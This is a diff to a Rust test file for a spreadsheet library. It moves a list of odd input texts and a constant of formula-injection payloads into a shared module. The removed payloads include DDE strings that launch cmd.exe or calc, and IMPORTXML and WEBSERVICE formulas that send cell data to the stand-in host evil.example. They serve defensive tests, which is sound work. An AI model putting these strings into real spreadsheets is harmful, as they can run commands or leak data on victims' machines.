@@ -6,6 +6,7 @@ use calamine::{Data, Reader, Xlsx};
 use documents::sheet::{Entry, Filled, FilledCell, Grid, Refused, read, write};
 
 use crate::books::{book, changed, parts, workbook};
+use crate::odd::{PAYLOADS, odd_texts};
 
 /// What stands in a column of the only row.
 fn value<'a>(filled: &'a Filled, role: &str) -> &'a str {
@@ -37,22 +38,8 @@ fn tabs_have_names_that_every_spreadsheet_takes() {
 
 #[test]
 fn whatever_people_write_comes_back_as_they_wrote_it() {
-    for text in [
-        "two\nlines",
-        "a & b < c > d \"quoted\" 'so'",
-        "_x0041_ and _x000D_ and _x",
-        "<r><t>not marked up</t></r>",
-        "<r></r>",
-        "007",
-        "1-2",
-        "TRUE",
-        "1e5",
-        "مدينة متعلّمة",
-        "👩‍🏫 学习 ไทย",
-        "'quoted",
-        "#REF!",
-        &"long ".repeat(6_000),
-    ] {
+    for text in odd_texts() {
+        let text = text.as_str();
         let filled = read(&workbook(text)).unwrap_or_else(|it| panic!("{text:?}: {it}"));
         assert_eq!(value(&filled, "answer").trim(), text.trim());
         assert_eq!(value(&filled, "year").trim(), text.trim());
@@ -65,50 +52,6 @@ fn a_text_longer_than_a_cell_is_known_before() {
     assert!(!Entry::holds(&text) && Entry::holds(&text[..60_000]));
     assert!(write(&book(&text)).is_err());
 }
-
-/// What spreadsheets take for a formula, or would be glad to.
-const PAYLOADS: [&str; 40] = [
-    "=1+1",
-    "=cmd|'/C calc'!A0",
-    "=HYPERLINK(\"http://evil.example\",\"x\")",
-    "=2+5+cmd|' /C calc'!A0",
-    "+1+1",
-    "-1+1",
-    "@SUM(1+1)",
-    "\t=1+1",
-    "\r=1+1",
-    "\n=1+1",
-    " =1+1",
-    "\u{a0}=1+1",
-    "\u{feff}=1+1",
-    "＝1+1",
-    "＋1",
-    "－1",
-    "＠SUM(1)",
-    "=",
-    "==1",
-    "='=1",
-    "'=1+1",
-    "\"=1+1\"",
-    "{=1+1}",
-    "=1+1;",
-    "=IMPORTXML(CONCAT(\"http://evil.example?\",A1),\"//a\")",
-    "=WEBSERVICE(\"http://evil.example\")",
-    "=DDE(\"cmd\",\"/C calc\",\"x\")",
-    "=MSEXCEL|'\\..\\..\\cmd.exe /c calc'!''",
-    "=rundll32|'x'!A",
-    "-2+3+cmd|' /C calc'!A0",
-    "=A1:XFD1048576",
-    "=SUM(A:A)",
-    "=NOW()",
-    "=INDIRECT(\"A1\")",
-    "=_xlfn.X()",
-    "=\u{202e}1+1",
-    "=1\u{0}",
-    "<f>1+1</f>",
-    "</t></si><f>1+1</f>",
-    "<r><f>=1+1</f></r>",
-];
 
 #[test]
 fn no_text_becomes_a_formula_to_another_reader() {
